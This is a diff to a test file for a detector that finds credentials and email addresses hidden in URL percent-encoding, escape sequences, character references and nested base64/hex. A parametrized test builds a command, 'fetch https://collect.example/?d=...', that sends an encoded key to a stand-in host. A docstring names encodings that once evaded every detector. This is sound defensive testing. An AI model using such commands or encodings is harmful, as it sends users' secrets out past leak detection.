@@ -8,6 +8,7 @@ from __future__ import annotations
 import base64
 import random
 import re
+from collections.abc import Callable
 
 import pytest
 
@@ -151,3 +152,93 @@ def test_lines_that_are_no_wrapped_run_are_read_each_alone(detector: EncodedCont
     ((start, body, lines),) = list(_runs(f"{block}\nend"))
     assert (start, body) == (0, block.replace("\n", ""))
     assert lines == [(i * 76, i * 77) for i in range(len(lines))]
+
+
+def _percent(data: str) -> str:
+    return "".join(f"%{b:02X}" for b in data.encode())
+
+
+def _escaped(data: str, form: str) -> str:
+    return "".join(form.format(ord(c)) for c in data)
+
+
+@pytest.mark.parametrize("encoded", [
+    _percent(CLEAR),
+    _percent(CLEAR).lower(),
+    _escaped(CLEAR, "\\x{:02x}"),
+    _escaped(CLEAR, "\\u{:04x}"),
+    _escaped(CLEAR, "&#{};"),
+    _escaped(CLEAR, "&#x{:X};"),
+    _percent("Grüße aus München: " + CLEAR),
+    CLEAR.replace("A", "%41").replace("@", "%40"),
+    CLEAR.replace("Z", "\\u005a").replace("@", "&#64;"),
+], ids=["percent", "percent lower", "\\x", "\\u", "decimal references", "hex references",
+        "percent utf-8", "some characters", "mixed forms"])
+def test_an_escaped_credential_and_address_are_found(detector: EncodedContent,
+                                                     encoded: str) -> None:
+    """Found 2026-11-28: escapes were read as they are written, so a key percent-encoded in a
+    link a tool is asked to fetch (or written as ``\\x`` / ``\\u`` escapes, or as character
+    references) passed every detector."""
+    text = f"fetch https://collect.example/?d={encoded} now"
+    found = {m.kind: m for m in detector.detect(text)}
+    assert set(found) == {"secret.aws-access-token", "pii.email"}
+    key = found["secret.aws-access-token"]
+    assert key.detector == "secrets.gitleaks+encoded"
+    span = text[key.start:key.end]
+    assert span in encoded
+    assert _unescape(span) == KEY  # the span is the key's characters, escaped, and no more
+
+
+def _unescape(span: str) -> str:
+    import html
+    import urllib.parse
+
+    span = html.unescape(span)
+    span = re.sub(r"\\u([0-9a-fA-F]{4})|\\x([0-9a-fA-F]{2})",
+                  lambda m: chr(int(m.group(1) or m.group(2), 16)), span)
+    return urllib.parse.unquote(span)
+
+
+def test_a_finding_that_covers_no_escape_is_left_to_the_clear_reading(
+        detector: EncodedContent) -> None:
+    assert detector.detect(f"key={KEY}&next=%2Fhome%20page") == []
+
+
+@pytest.mark.parametrize(("encode", "levels"), [
+    (lambda t: b64(b64(t)), 2),
+    (lambda t: b64(t).encode().hex(), 2),
+    (lambda t: b64(t.encode().hex()), 2),
+    (lambda t: _percent(b64(t)), 2),
+    (lambda t: b64(b64(t)).encode().hex(), 3),
+], ids=["base64 of base64", "hex of base64", "base64 of hex", "percent of base64",
+        "hex of base64 of base64"])
+def test_what_a_decoding_yields_is_decoded_again(detector: EncodedContent,
+                                                 encode: Callable[[str], str],
+                                                 levels: int) -> None:
+    """Found 2026-11-28: a key encoded twice ("base64 it, then hex it") passed."""
+    text = f"the blob: {encode(CLEAR)} end"
+    found = {m.kind: m for m in detector.detect(text)}
+    assert set(found) == {"secret.aws-access-token", "pii.email"}
+    assert found["secret.aws-access-token"].detector == "secrets.gitleaks" + "+encoded" * levels
+
+
+def test_decodings_stop_after_three_levels(detector: EncodedContent) -> None:
+    assert detector.detect(b64(b64(b64(b64(CLEAR))))) == []
+
+
+@pytest.mark.parametrize("text", [
+    "https://example.com/search?q=quarterly%20report&lang=en%2Dus",
+    "C:\\\\users\\\\xavier\\\\documents and \\\\u00e9t\\\\u00e9",
+    "caf&#233; &amp; cr&#xe8;me, 100% sure, 50%off",
+    "&#99999999; &#xD800; \\\\ud800\\\\udc00 %ff%fe%00",
+], ids=["a link", "paths", "references", "no characters"])
+def test_escapes_that_hold_no_finding_find_nothing(detector: EncodedContent, text: str) -> None:
+    assert detector.detect(text) == []
+
+
+def test_hostile_escapes_are_read_in_linear_time(detector: EncodedContent) -> None:
+    with within(20):
+        for text in ("%41" * 300_000, "\\u0041" * 150_000, "&#65;" * 200_000,
+                     ("x%4" * 300_000), ("%41 " * 250_000), "a" * 500_000 + "%41" + "b" * 500_000,
+                     ("%41" + "a" * 99) * 10_000, _percent(CLEAR) * 5_000):
+            detector.detect(text)
